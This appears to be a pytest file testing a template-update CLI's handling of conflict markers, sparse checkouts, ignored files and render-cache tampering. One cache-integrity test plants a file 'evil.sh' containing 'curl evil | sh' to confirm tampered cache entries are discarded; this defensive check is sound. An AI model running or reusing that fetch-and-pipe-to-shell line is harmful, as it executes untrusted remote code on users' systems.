"""Point 7's smaller items of issue #20: sparse checkouts, directory symlinks, ``--dry-run
--diff`` and ignored files, a deleted folder, diff3 labels, the render cache's integrity."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from mlops_new.cli._errors import ExitCode
from tests.support.helpers import git
from tests.update.conftest import CONFIG_V1, CONFIG_V2, Cli, commit_all

MakeProject = Callable[..., Path]


@pytest.mark.parametrize("style", ["diff3", "zdiff3"])
def test_diff3_markers_name_both_template_versions(
    cli: Cli, make_project: MakeProject, style: str
) -> None:
    project = make_project("0.1.0")
    git(project, "config", "merge.conflictStyle", style)
    (project / "config.txt").write_text(CONFIG_V1.replace("alpha=1", "alpha=5"))
    commit_all(project)
    result = cli("update", str(project), "--to", "0.2.0", "--defaults")
    assert result.exit_code == ExitCode.CONFLICTS, result.output
    text = (project / "config.txt").read_text()
    assert "<<<<<<< before updating\n" in text
    assert "||||||| template v0.1.0\n" in text
    assert ">>>>>>> template v0.2.0\n" in text


def test_a_changed_render_cache_entry_is_rendered_again_not_merged(
    cli: Cli, make_project: MakeProject
) -> None:
    from mlops_new.templates import render

    project = make_project("0.1.0")
    dry = cli("update", str(project), "--to", "0.2.0", "--defaults", "--dry-run")
    assert dry.exit_code == 0, dry.output  # both versions are in the cache now
    entries = [entry for entry in render.cache_root().iterdir() if entry.is_dir()]
    assert entries
    for entry in entries:
        (entry / "project" / "config.txt").write_text(CONFIG_V1.replace("beta=2", "beta=666"))
        (entry / "project" / "evil.sh").write_text("curl evil | sh\n")
    result = cli("update", str(project), "--to", "0.2.0", "--defaults", "--no-lock")
    assert result.exit_code == 0, result.output
    assert (project / "config.txt").read_text() == CONFIG_V2
    assert not (project / "evil.sh").exists()
    assert all(render.intact(entry) for entry in render.cache_root().iterdir() if entry.is_dir())


def test_a_sparse_checkout_is_refused_as_sparse_with_a_hint_that_keeps_it_sparse(
    cli: Cli, make_project: MakeProject
) -> None:
    project = make_project("0.1.0")
    git(project, "sparse-checkout", "set", "--no-cone", "/*", "!/config.txt")
    assert not (project / "config.txt").exists()
    result = cli("update", str(project), "--to", "0.2.0", "--defaults", "--no-lock")
    assert result.exit_code == ExitCode.USER_ERROR, result.output
    message = " ".join(result.stderr.split())
    assert "'config.txt' is outside the sparse checkout" in message
    assert "git sparse-checkout add" in message
    assert "--no-skip-worktree" not in message
    assert "_commit: v0.1.0" in (project / ".copier-answers.yml").read_text()


def _with_config_ignored(project: Path) -> Path:
    """The project, with its template-managed ``config.txt`` git-ignored (a local file)."""
    git(project, "rm", "--cached", "--quiet", "config.txt")
    (project / ".gitignore").write_text("config.txt\n")
    commit_all(project, "config.txt is local")
    return project


def test_dry_run_diff_shows_the_ignored_file_the_real_run_rewrites(
    cli: Cli, make_project: MakeProject
) -> None:
    project = _with_config_ignored(make_project("0.1.0"))
    dry = cli("update", str(project), "--to", "0.2.0", "--defaults", "--dry-run", "--diff")
    assert dry.exit_code == 0, dry.output
    assert "a/config.txt" in dry.stdout
    assert "-alpha=1\n+alpha=10\n" in dry.stdout
    assert (project / "config.txt").read_text() == CONFIG_V1
    real = cli("update", str(project), "--to", "0.2.0", "--defaults", "--no-lock")
    assert real.exit_code == 0, real.output
    assert (project / "config.txt").read_text() == CONFIG_V2


def test_an_ignored_file_conflict_names_the_template_version(
    cli: Cli, make_project: MakeProject
) -> None:
    project = _with_config_ignored(make_project("0.1.0"))
    (project / "config.txt").write_text(CONFIG_V1.replace("alpha=1", "alpha=5"))
    result = cli("update", str(project), "--to", "0.2.0", "--defaults", "--no-lock")
    assert result.exit_code == ExitCode.CONFLICTS, result.output
    text = (project / "config.txt").read_text()
    assert "<<<<<<< before updating\n" in text
    assert ">>>>>>> template v0.2.0\n" in text
